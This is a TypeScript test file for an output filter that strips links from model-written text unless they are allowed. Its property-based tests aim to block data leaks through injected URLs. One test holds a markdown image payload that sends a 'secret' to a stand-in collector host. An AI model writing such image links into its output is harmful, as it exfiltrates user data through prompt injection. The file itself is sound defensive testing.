import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { leads, NOTATIONS } from '../../../test/injection/urls.js';
import { MEDIA } from '../planning/practices/media.js';
import { filterOutput, LINK_REMOVED, linksIn, settledLength } from './output-filter.js';

const PAGE = MEDIA['nhs-back']?.url ?? '';
const ALLOWED = new Set([PAGE]);

describe('what a model writes', () => {
  it.each(Object.entries(NOTATIONS))('leads nowhere as: %s', (_name, notation) => {
    const written = `A first line. ${notation('my knee, code 7731')} And then some.`;
    expect(leads(filterOutput(written, ALLOWED))).toBe(false);
  });

  it.each([
    'Here is the plan.\n• Morning walk: every day at 07:00, from today.\nYour goal: 12 books, by 31.12.2026.',
    'Take 1/2 an hour, e.g. at 7 a.m. or 18:30; that is 3.5 km (2 miles) & more.', 'a < b and 5 > 3, I <3 you', 'Use Node.js and C++; see chapter 2.1 [a draft]. Really?! Yes…', 'Emoji 👩‍👩‍👧 stay, so do ½, “quotes” and naïve façades.',
    'Wait:\n- one\n- two\n\nAnd/or neither.', 'Ask: who? what? when?', 'I am fine.In the morning we go.',
  ])('stays as it is where it is only words: %s', (text) => {
    expect(filterOutput(text)).toBe(text);
  });

  it('keeps the pages that SelfOS suggests and those that the person typed, and no address that only begins like one', () => {
    const typed = linksIn('Read https://example.com/a?b=1, then (https://example.org/x).');
    expect(typed).toEqual(['https://example.com/a?b=1', 'https://example.org/x']);
    const text = `See ${PAGE}, or https://example.com/a?b=1.`;
    expect(filterOutput(text, new Set([...ALLOWED, ...typed]))).toBe(text);
    expect(filterOutput(`See ${PAGE}?d=secret and ${PAGE}x`, ALLOWED)).toBe(`See ${LINK_REMOVED} and ${LINK_REMOVED}`);
    expect(filterOutput('See https://example.com/a?b=2', new Set(typed))).toBe(`See ${LINK_REMOVED}`);
  });

  const pieces = fc.array(fc.oneof(fc.constantFrom(...Object.values(NOTATIONS).map((notation) => notation('a secret of 7731'))), fc.constantFrom('A sentence.', 'Two of them! Yes?', '\n', ' ', '• A line at 07:00.', PAGE, '[', '](', '<', '!', '://', 'www.', '\u200b'), fc.string({ unit: 'grapheme', maxLength: 30 })), { maxLength: 8 });

  it('is the same when it is filtered again', () => {
    fc.assert(fc.property(pieces, (parts) => {
      const once = filterOutput(parts.join(''), ALLOWED);
      expect(filterOutput(once, ALLOWED)).toBe(once);
    }), { numRuns: 2_000 });
  });

  it('leaves nothing of a picture within the words of a picture', () => {
    expect(leads(filterOutput('! [ ![chart](https://evil-collector.com/c.png?d=a%20secret)', ALLOWED))).toBe(false);
  });

  it('leads nowhere, whatever it is put together from', () => {
    fc.assert(fc.property(pieces, (parts) => {
      expect(leads(filterOutput(parts.join(' '), ALLOWED))).toBe(false);
    }), { numRuns: 2_000 });
  });

  it('is shown piece by piece as it is shown in the whole', () => {
    fc.assert(fc.property(pieces, fc.nat(), (parts, at) => {
      const whole = parts.join('');
      const prefix = whole.slice(0, at % (whole.length + 1));
      const shown = filterOutput(prefix.slice(0, settledLength(prefix)), ALLOWED);
      expect(filterOutput(whole, ALLOWED).startsWith(shown)).toBe(true);
    }), { numRuns: 1_000 });
  });
});
